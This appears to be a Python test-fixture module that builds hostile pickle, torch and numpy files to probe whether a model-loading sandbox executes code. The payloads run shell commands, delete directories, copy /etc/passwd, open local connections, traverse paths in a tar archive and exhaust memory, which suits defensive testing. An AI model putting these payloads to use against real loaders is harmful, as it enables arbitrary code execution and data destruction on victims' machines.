"""Pickles that call, in all the ways that the format has, and what pretends to be a learner.

What a call would leave behind, change or remove lies in a folder `outside`; a connection goes to PORT of this machine.
"""

import io
import marshal
import pickle
import pickletools
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from typing import Any

from hostile_files import LIE, Door, Hostile

PORT = 9


def code(outside: str) -> str:
    return f"open('{outside}/{LIE}', 'w')"


def calls(outside: str) -> list[tuple[Any, ...]]:
    """Module, name and arguments of each."""
    mark, touch, victim = f"{outside}/{LIE}", f"touch {outside}/{LIE}", f"{outside}/victim"
    return [
        ("os", "system", touch),
        ("posix", "system", touch),
        ("builtins", "exec", code(outside)),
        ("builtins", "eval", code(outside)),
        ("builtins", "open", mark, "w"),
        ("subprocess", "Popen", ["touch", mark]),
        ("subprocess", "getoutput", touch),
        ("os", "popen", touch),
        ("os", "execv", "/bin/true", ["true"]),
        ("os", "fork"),
        ("os", "forkpty"),
        ("os", "posix_spawn", "/bin/true", ["true"], {}),
        ("os", "spawnv", 0, "/bin/true", ["true"]),
        ("pty", "spawn", "/bin/true"),
        ("os", "remove", victim),
        ("os", "symlink", "/etc/passwd", mark),
        ("os", "mkdir", mark),
        ("os", "kill", 1, 0),
        ("os", "truncate", victim, 0),
        ("os", "chmod", victim, 0),
        ("os", "mkfifo", mark),
        ("os", "_exit", 0),
        ("sys", "exit", 0),
        ("shutil", "rmtree", outside),
        ("shutil", "copy", "/etc/passwd", mark),
        ("socket", "create_connection", ["127.0.0.1", PORT]),
        ("socket", "socketpair"),
        ("urllib.request", "urlopen", f"http://127.0.0.1:{PORT}/"),
        ("http.server", "test"),
        ("ctypes", "CDLL", "/proc/self/exe"),
        ("webbrowser", "open", "http://127.0.0.1/"),
        ("runpy", "run_path", victim),
        ("importlib", "import_module", "antigravity"),
        ("code", "interact"),
        ("timeit", "timeit", code(outside)),
        ("cProfile", "run", code(outside)),
        ("pdb", "run", code(outside)),
        ("doctest", "script_from_examples", ">>> 1"),
        ("multiprocessing.util", "spawnv_passfds", b"/bin/true", [b"true"], []),
        ("distutils.spawn", "spawn", ["touch", mark]),
        ("nt", "system", "x"),
        ("torch", "load", "/etc/passwd"),
        ("torch.hub", "load", "a/b", "c"),
        ("torch.utils.cpp_extension", "load_inline", "lied", "int main(){}"),
        ("numpy", "load", "/etc/passwd"),
        ("numpy.f2py", "compile", "x"),
        ("torch.hub", "load_state_dict_from_url", f"http://127.0.0.1:{PORT}/x.tgz"),
        ("pickle", "loads", f"cos\nsystem\n(S'{touch}'\ntR.".encode()),
        ("_pickle", "loads", b"cposix\nfork\n(tR."),
        ("builtins", "breakpoint"),
        ("builtins", "__import__", "antigravity"),
    ]


def calling(module: str, name: str, *arguments: Any) -> bytes:
    inner = pickle.dumps(arguments, 2)[2:-1]
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + inner + b"R."


def archived_by_torch(module: str, name: str, outside: str) -> bytes:
    """As `torch.save` writes it, with a call for a tensor."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr("archive/data.pkl", calling(module, name, code(outside)))
        file.writestr("archive/version", "3\n")
        file.writestr("archive/byteorder", "little")
        file.writestr("archive/data/0", bytes(16))
    return content.getvalue()


def pickles(outside: str) -> Iterator[Hostile]:
    """What is sent as a learner."""

    def learner(kind: str, content: bytes) -> Hostile:
        return Hostile(f"learner: {kind}", Door.LEARNER, {"theirs.pkl": content})

    for call in calls(outside):
        yield learner("a pickle that calls", calling(*call))
    for content in _games(outside):
        yield learner("getattr games and code objects", content)
    for content in _opcodes(outside):
        yield learner("every opcode that calls", content)
    for content in _bombs():
        yield learner("pickles that burst", content)
    for content in _torch(outside):
        yield learner("torch archives", content)
    for content in _arrays(outside):
        yield learner("object arrays", content)
    for content in _something_else(outside):
        yield learner("something else", content)


def _games(outside: str) -> Iterator[bytes]:
    touch = f"touch {outside}/{LIE}".encode()
    made = marshal.dumps(compile(code(outside), "x", "exec"))
    yield b"\x80\x02cbuiltins\ngetattr\n(cos\n__dict__\nS'system'\ntR(S'TOUCH'\ntR.".replace(b"TOUCH", touch)
    yield b"\x80\x04\x8c\x02os\x8c\x0epath.os.system\x93(S'TOUCH'\ntR.".replace(b"TOUCH", touch)
    yield b"coperator\nattrgetter\n(S'system'\ntR(cos\n__name__\ntR."
    yield b"coperator\nmethodcaller\n(S'system'\nS'TOUCH'\ntR(cimportlib\nimport_module\n(S'os'\ntRtR.".replace(
        b"TOUCH", touch
    )
    yield b"cfunctools\npartial\n(cos\nsystem\nS'TOUCH'\ntR(tR.".replace(b"TOUCH", touch)
    yield b"cfunctools\nreduce\n(cbuiltins\nmap\n(cos\nsystem\n(S'TOUCH'\nltRltR.".replace(b"TOUCH", touch)
    yield b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n(lS'TOUCH'\natRtR.".replace(b"TOUCH", touch)
    yield b"\x80\x02ctypes\nFunctionType\n(cmarshal\nloads\n(" + pickle.dumps(made, 2)[2:-1] + b"tR}tR)R."
    yield b"\x80\x02cbuiltins\ntype\n(X\x01\x00\x00\x00x(cbuiltins\nobject\nt}X\x08\x00\x00\x00__init__cos\nsystem\nstR)R."


def _opcodes(outside: str) -> Iterator[bytes]:
    word = f"S'touch {outside}/{LIE}'\n".encode()
    yield b"cos\nsystem\n(" + word + b"tR."
    yield b"(" + word + b"ios\nsystem\n."
    yield b"(cos\nsystem\n" + word + b"o."
    yield b"\x80\x02cos\nsystem\n(" + word + b"t\x81."
    yield b"\x80\x04cos\nsystem\n(" + word + b"t}\x92."
    yield b"\x80\x02ccollections\nOrderedDict\n)R}(X\x05\x00\x00\x00__del__cos\nsystem\nub."
    yield b"\x80\x02\x82\x01."
    yield b"Pos.system\n."
    yield b"\x80\x02(cos\nsystem\n" + word + b"Q."
    yield b"\x80\x05\x97."
    yield pickletools.optimize(calling("os", "system", f"touch {outside}/{LIE}"))
    yield calling("builtins", "int", "1") + calling("os", "system", f"touch {outside}/{LIE}")


def _bombs() -> Iterator[bytes]:
    yield b"(lp0\n" + b"".join(b"(lp%d\n" % (at + 1) + b"g%d\na" % at * 10 for at in range(12)) + b"."
    yield b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"\1."
    yield b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x."
    yield b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N."
    yield b"(" * 1_000_000 + b"t" * 1_000_000 + b"."
    yield b"]" + b"]a" * 3 + b"\x80\x02r\xff\xff\xff\x7f."
    yield calling("builtins", "bytearray", 1 << 50)
    yield calling("builtins", "pow", 7, 10**4000, 10**4001)
    yield calling("numpy", "zeros", [1 << 30, 1 << 30])
    yield b"I" + b"9" * 100_000 + b"\n."


def _torch(outside: str) -> Iterator[bytes]:
    yield archived_by_torch("os", "system", outside)
    yield archived_by_torch("builtins", "exec", outside)
    yield archived_by_torch("torch.jit", "load", outside)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    yield magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + calling("builtins", "exec", code(outside))
    yield (
        magic
        + pickle.dumps(1001, 2)
        + b"\x80\x02(X\x07\x00\x00\x00storagecos\nsystem\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ."
    )
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as file:
        for name in ("storages", "tensors", "pickle", f"../{LIE}"):
            info, content = tarfile.TarInfo(name), calling("builtins", "exec", code(outside))
            info.size = len(content)
            file.addfile(info, io.BytesIO(content))
    yield tar.getvalue()


def _arrays(outside: str) -> Iterator[bytes]:
    begin = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n"
    yield begin + calling("builtins", "exec", code(outside))
    yield (
        b"\x80\x02cnumpy\nndarray\n)\x81(K\x01K\x01\x85cnumpy\ndtype\n(X\x02\x00\x00\x00O8tR\x89]"
        + calling("builtins", "exec", code(outside))[2:-1]
        + b"atb."
    )
    yield calling("numpy.core.multiarray", "_reconstruct", [], 0, b"O")


def _something_else(outside: str) -> Iterator[bytes]:
    yield from (
        b"",
        b".",
        b"\x80",
        b"N.",
        b"\x80\x02}.",
        b"<html></html>",
        b"%PDF-1.7\n" + calling("builtins", "exec", code(outside)),
    )
    yield b"\x89PNG\r\n\x1a\n" + calling("builtins", "exec", code(outside))
    yield b"\x80\x04\x95" + bytes(8)
    yield b"RIFF\x24\0\0\0WAVEfmt " + calling("builtins", "exec", code(outside))
    yield bytes(range(256)) * 64
